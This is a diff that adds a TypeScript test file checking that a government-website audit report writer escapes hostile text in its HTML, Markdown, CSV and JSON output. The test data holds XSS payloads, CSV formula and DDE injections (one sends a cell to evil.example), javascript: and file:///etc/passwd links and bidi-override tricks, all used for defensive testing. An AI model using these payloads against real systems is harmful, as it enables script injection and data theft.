@@ -1,0 +1,186 @@
+import { parse } from 'csv-parse/sync';
+import fc from 'fast-check';
+import { parseDocument } from 'htmlparser2';
+import { describe, expect, it } from 'vitest';
+import { neutralise, toCsv } from '../../src/report/csv.ts';
+import { escapeMarkdown, markdownLink } from '../../src/report/markdown.ts';
+import { escapeMarkup, markup, siteLink } from '../../src/report/markup.ts';
+import { linkable, oneLine } from '../../src/report/text.ts';
+import { renderReport } from '../../src/report/write.ts';
+import { findingOf, governmentOf } from '../scoring/trees.ts';
+import { reportOf } from './country.ts';
+
+const hostile = [
+  '<script>alert(1)</script>',
+  '"><img src=x onerror=alert(1)>',
+  "'><svg/onload=alert(1)>",
+  '</style><style>*{display:none}',
+  '</code></blockquote><iframe src="https://evil.example/">',
+  '=HYPERLINK("http://evil.example/?x="&A1,"ok")',
+  "+1+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  '-2+3',
+  '\t=1+1',
+  '\r=1+1',
+  '＝1+1',
+  '| a | b |\n|---|---|\n# 标题',
+  '[点这里](javascript:alert(1))',
+  '![x](http://evil.example/x.png)',
+  '```\n<b>x</b>',
+  '\u202egnp.exe\u202c',
+  'a\u0000b\u001b[31mc\u0007',
+  '\ud800lone',
+  '{{7*7}}#{1+1}',
+  '&lt;script&gt;',
+];
+
+/** Every text that a site, or a broken registry, could have written, set to one hostile string. */
+function reportWith(text: string) {
+  const government = governmentOf('510100', { name: text, province: text, region: text, group: text });
+  const findings = ['smart-search', 'smart-qa', 'open-data-platform', 'api-count', 'app-count', 'privacy-policy'].map(
+    (probe) =>
+      findingOf(probe, {
+        state: probe === 'smart-qa' ? 'unknown' : 'present',
+        value: { level: 'working', title: text, [text]: text },
+        reason: text,
+        evidence: [
+          { url: text, quote: text, capture: text },
+          { url: `javascript:alert("${text}")`, quote: text, capture: text },
+          { url: `https://example.gov.cn/?q=${text}`, quote: text, capture: text },
+        ],
+      }),
+  );
+  return renderReport(reportOf([government], findings, { title: text, provenance: [text] }));
+}
+
+interface Node {
+  readonly type: string;
+  readonly name?: string;
+  readonly attribs?: Readonly<Record<string, string>>;
+  readonly children?: readonly unknown[];
+}
+
+function elements(html: string): Node[] {
+  const found: Node[] = [];
+  const walk = (node: Node) => {
+    if (node.name !== undefined) found.push(node);
+    for (const child of node.children ?? []) walk(child as Node);
+  };
+  walk(parseDocument(html) as unknown as Node);
+  return found;
+}
+
+describe.each(hostile)('%j', (text) => {
+  const files = reportWith(text);
+  const harmless = elements(reportWith('无害').get('bulletin.html') ?? '');
+
+  it('adds no element, no handler and no link of another kind to the page', () => {
+    const page = elements(files.get('bulletin.html') ?? '');
+    const kinds = (nodes: readonly Node[]) =>
+      nodes.map(({ name }) => name).filter((name) => name !== 'a' && name !== 'span');
+    expect(kinds(page)).toEqual(kinds(harmless));
+    for (const { attribs = {} } of page) {
+      for (const [name, value] of Object.entries(attribs)) {
+        expect(name).not.toMatch(/^on/iu);
+        if (name === 'href') expect(value).toMatch(/^(?:#|https?:\/\/)/u);
+      }
+    }
+  });
+
+  it('cannot become markup, a picture, a heading or a table in Markdown', () => {
+    const lines = (files.get('bulletin.md') ?? '').split('\n');
+    const plain = (reportWith('无害').get('bulletin.md') ?? '').split('\n');
+    const shape = (line: string) => line.replaceAll(/\\./gu, '').match(/^[#>|-]+/u)?.[0] ?? '';
+    expect(lines.map(shape)).toEqual(plain.map(shape));
+    for (const line of lines) {
+      const bare = line.replaceAll(/\\./gu, '').replaceAll(/\(<https?:[^<>\s]*>\)/gu, '');
+      expect(bare.replaceAll(/<a id="g-510100"><\/a>/gu, '')).not.toMatch(/<|!\[|\]\((?!#g-)|```/u);
+      expect(bare).not.toMatch(/javascript:/iu);
+    }
+  });
+
+  it('is no formula in any table, and comes back as one cell', () => {
+    for (const [name, content] of files) {
+      if (!name.endsWith('.csv')) continue;
+      const rows: string[][] = parse(content, { bom: true });
+      expect(new Set(rows.map((row) => row.length)).size).toBe(1);
+      for (const cell of rows.flat()) {
+        if (!/^-?\d+(?:\.\d+)?$/u.test(cell)) expect(cell).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/u);
+      }
+    }
+  });
+
+  it('leaves the JSON readable', () => {
+    const report: unknown = JSON.parse(files.get('report.json') ?? '');
+    expect(report).toMatchObject({ title: text });
+  });
+
+  it('shows no control or reordering character in the bulletins', () => {
+    for (const name of ['bulletin.html', 'bulletin.md']) {
+      expect(files.get(name)).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u202a-\u202e\u2066-\u2069\ud800]/u);
+    }
+  });
+});
+
+describe('linkable', () => {
+  it.each([
+    'javascript:alert(1)',
+    'JAVASCRIPT:alert(1)',
+    'java\nscript:alert(1)',
+    ' data:text/html,x',
+    'vbscript:x',
+    'file:///etc/passwd',
+    'ftp://example.cn/',
+    '//example.cn/',
+    '/relative',
+    'https://user:password@example.cn/',
+    `https://example.cn/${'x'.repeat(3000)}`,
+    '',
+  ])('refuses %j', (address) => {
+    expect(linkable(address)).toBeNull();
+    expect(siteLink(address, 'x').text).toBe('<span>x</span>');
+    expect(markdownLink(address, 'x')).toBe('x');
+  });
+
+  it('keeps a plain address, and its ampersands whole in both formats', () => {
+    const address = 'http://www.例子.cn/a b?x=1&copy=2|3)';
+    expect(linkable(address)).toBe('http://www.xn--fsqu00a.cn/a%20b?x=1&copy=2|3)');
+    expect(siteLink(address, '<b>').text).toContain('href="http://www.xn--fsqu00a.cn/a%20b?x=1&amp;copy=2|3)"');
+    expect(markdownLink(address, 'x')).toBe('[x](<http://www.xn--fsqu00a.cn/a%20b?x=1&amp;copy=2%7C3%29>)');
+  });
+});
+
+describe('properties', () => {
+  it('gives back any text through the page', () => {
+    fc.assert(
+      fc.property(fc.string({ unit: 'binary' }), (text) => {
+        const [root] = elements(markup`<p title="${text}">${text}</p>`.text);
+        expect(root?.attribs?.title).toBe(oneLine(text));
+        expect(escapeMarkup(text)).not.toMatch(/[<>"'`]/u);
+      }),
+    );
+  });
+
+  it('leaves no bare punctuation that Markdown could take for markup', () => {
+    fc.assert(
+      fc.property(fc.string({ unit: 'binary' }), (text) => {
+        expect(escapeMarkdown(text).replaceAll(/\\[^\s]/gu, '')).not.toMatch(/[<>`*_[\]()|#!~]|&(?!amp;|lt;|gt;)/u);
+      }),
+    );
+  });
+
+  it('never starts a cell like a formula, and leaves numbers alone', () => {
+    fc.assert(
+      fc.property(fc.string(), fc.double({ noNaN: true, noDefaultInfinity: true }), (text, number) => {
+        expect(neutralise(text)).not.toMatch(/^[\s"]*[=+\-@]/u);
+        const [, row]: string[][] = parse(toCsv({ head: ['a', 'b'], rows: [[number, text]] }), { bom: true });
+        expect(Number(row?.[0])).toBe(number === 0 ? 0 : number);
+        expect(row?.[1]).toBe(neutralise(text));
+      }),
+    );
+  });
+
+  it('keeps a negative number a number', () => {
+    expect(toCsv({ head: ['a'], rows: [[-1.5], ['-1.5'], [null]] })).toBe("\ufeffa\r\n-1.5\r\n'-1.5\r\n\r\n");
+  });
+});
